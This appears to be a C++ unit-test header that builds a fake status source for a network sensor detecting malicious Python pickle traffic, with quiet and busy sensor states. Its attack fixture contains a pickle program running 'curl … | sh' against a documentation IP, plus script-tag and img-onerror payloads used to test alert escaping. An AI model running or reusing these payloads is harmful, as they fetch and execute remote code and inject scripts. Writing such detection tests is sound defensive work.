// A StatusSource with whatever a test puts into it, and two sensors to look at: one that has seen nothing yet, and one
// under attack, whose alerts are lines of the real EVE renderer.
#pragma once

#include <algorithm>
#include <chrono>
#include <memory>
#include <string>
#include <vector>

#include "sensor/http/status_source.h"
#include "sensor/output/eve_record.h"
#include "tests/unit/output/sample_records.h"

namespace pickletap::fake {

inline int64_t now_ns() {
  using namespace std::chrono;
  return duration_cast<nanoseconds>(system_clock::now().time_since_epoch()).count();
}

inline constexpr int64_t kSecond = 1'000'000'000;

struct Sensor : StatusSource {
  SensorStatus now;
  std::vector<std::shared_ptr<const std::string>> alerts;
  std::vector<ListenerSummary> known_listeners;
  uint64_t packets_a_call = 0;  ///< the first interface gets them at each status(), so that there is a rate
  bool throws = false;

  SensorStatus status() override {
    if (throws) throw std::runtime_error("the sensor of this test has no status");
    if (!now.interfaces.empty()) now.interfaces.front().packets += packets_a_call;
    return now;
  }
  std::vector<std::shared_ptr<const std::string>> recent_alerts(size_t max) override {
    return {alerts.begin(), alerts.begin() + static_cast<std::ptrdiff_t>(std::min(max, alerts.size()))};
  }
  std::shared_ptr<const std::vector<ListenerSummary>> listeners() override {
    return std::make_shared<const std::vector<ListenerSummary>>(known_listeners);
  }
  void add_alert(std::string line) { alerts.push_back(std::make_shared<const std::string>(std::move(line))); }
};

inline std::string eve_line(const Record& record) {
  EveRenderer renderer({"dc1-tap", {"eth0"}, true});
  std::string line(renderer.line(record));
  line.pop_back();
  return line;
}

/// Started an hour ago; no packet, no alert, no listener.
inline void make_quiet(Sensor& sensor) {
  SensorStatus& now = sensor.now;
  now.sensor_name = "dc1-tap";
  now.start_time_ns = now_ns() - 3600 * kSecond;
  now.ready = true;
  now.last_reload_success_ns = now.start_time_ns;
  now.interfaces = {{"eth0", true, "", 0, 0, 0}};
  now.outputs = {{"file", true, "", 0, 0, 0}};
  now.counters = {{"packets_total", {}, 0},
                  {"alerts_total", {{"rule", "pickle.code-execution"}, {"severity", "1"}}, 0},
                  {"output_events_total", {{"output", "file"}}, 0}};
  now.packet_latency = {{0.001, 0.01, 0.1}, {0, 0, 0, 0}, 0};
}

inline Alert attack(int64_t time_ns) {
  Alert alert = sample::alert();
  alert.head.time_ns = time_ns;
  alert.pickle.program =
      "_0 = getattr(posix, 'system')\n"
      "_0('curl -s http://203.0.113.9/x | sh')  # <script>document.title='owned'</script>";
  alert.outcome = Outcome::kExecuted;
  return alert;
}

inline Alert exposed(int64_t time_ns) {
  Alert alert;
  alert.head = sample::head();
  alert.head.time_ns = time_ns;
  alert.head.auth = AuthState::kNone;
  alert.head.digest = Digest::kNone;
  alert.rule = &sample::kUnauthenticated;
  alert.signature = "<img src=x onerror=document.title='owned'> pickles travel without a handshake";
  return alert;
}

inline ListenerSummary listener(uint16_t port, AuthState auth, Digest digest, PythonGuess python, Application app) {
  ListenerSummary summary;
  summary.endpoint = sample::endpoint(1, port);
  summary.first_seen_ns = now_ns() - 3000 * kSecond;
  summary.last_seen_ns = now_ns() - 2 * kSecond;
  summary.flows = 3;
  summary.peers = 2;
  summary.auth = auth;
  summary.digest = digest;
  summary.python = python;
  summary.application = app;
  return summary;
}

/// Traffic, attacks, losses, an output that is down.
inline void make_busy(Sensor& sensor) {
  make_quiet(sensor);
  SensorStatus& now = sensor.now;
  now.last_packet_time_ns = now_ns();
  now.packet_clock_lag_ns = 1'500'000;
  now.interfaces = {{"eth0", true, "", 8'123'456, 7'000'000'000, 1234}, {"eth1", false, "No such device", 0, 0, 0}};
  now.outputs = {{"file", true, "", 42, 0, 512}, {"redis", false, "Connection refused", 30, 12, 4096}};
  now.last_reload_successful = false;
  now.last_reload_error = "/etc/pickletap/pickletap.yaml:3: capture.worker: unknown key (did you mean workers?)";
  now.counters = {{"packets_total", {}, 8'123'456},
                  {"alerts_total", {{"rule", "pickle.code-execution"}, {"severity", "1"}}, 40},
                  {"alerts_total", {{"rule", "exposure.unauthenticated"}, {"severity", "2"}}, 2},
                  {"output_events_total", {{"output", "file"}}, 42},
                  {"output_dropped_total", {{"output", "redis"}}, 12}};
  now.packet_latency = {{0.001, 0.01, 0.1}, {30, 8, 2, 1}, 1.25};
  sensor.packets_a_call = 5000;
  sensor.add_alert(eve_line(attack(now_ns() - 5 * kSecond)));
  sensor.add_alert(eve_line(exposed(now_ns() - 65 * kSecond)));
  Alert unread = sample::alert();
  unread.outcome = Outcome::kNotUnpickled;
  sensor.add_alert(eve_line(unread));
  sensor.known_listeners = {
      listener(50000, AuthState::kNone, Digest::kNone, PythonGuess::kUnknown, Application::kConnection),
      listener(50001, AuthState::kMutual, Digest::kSha256, PythonGuess::kFrom312, Application::kManager),
      listener(50002, AuthState::kOneWay, Digest::kMd5, PythonGuess::kUpTo311, Application::kConnection),
      listener(50003, AuthState::kFailed, Digest::kMd5, PythonGuess::k27, Application::kConnection)};
  sensor.known_listeners[1].endpoint.address.is_v6 = true;
  sensor.known_listeners[1].endpoint.address.bytes = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};
  sensor.known_listeners[2].vlan = {{100, 7}, 2};
  ListenerSummary& exposed_one = sensor.known_listeners[1];
  exposed_one.untrusted_peers = 2;
  exposed_one.weak_key = true;
  exposed_one.messages = Messages::kXmlRpc;
  exposed_one.departures = Departure::kManager | Departure::kWeakDigest;
}

}  // namespace pickletap::fake
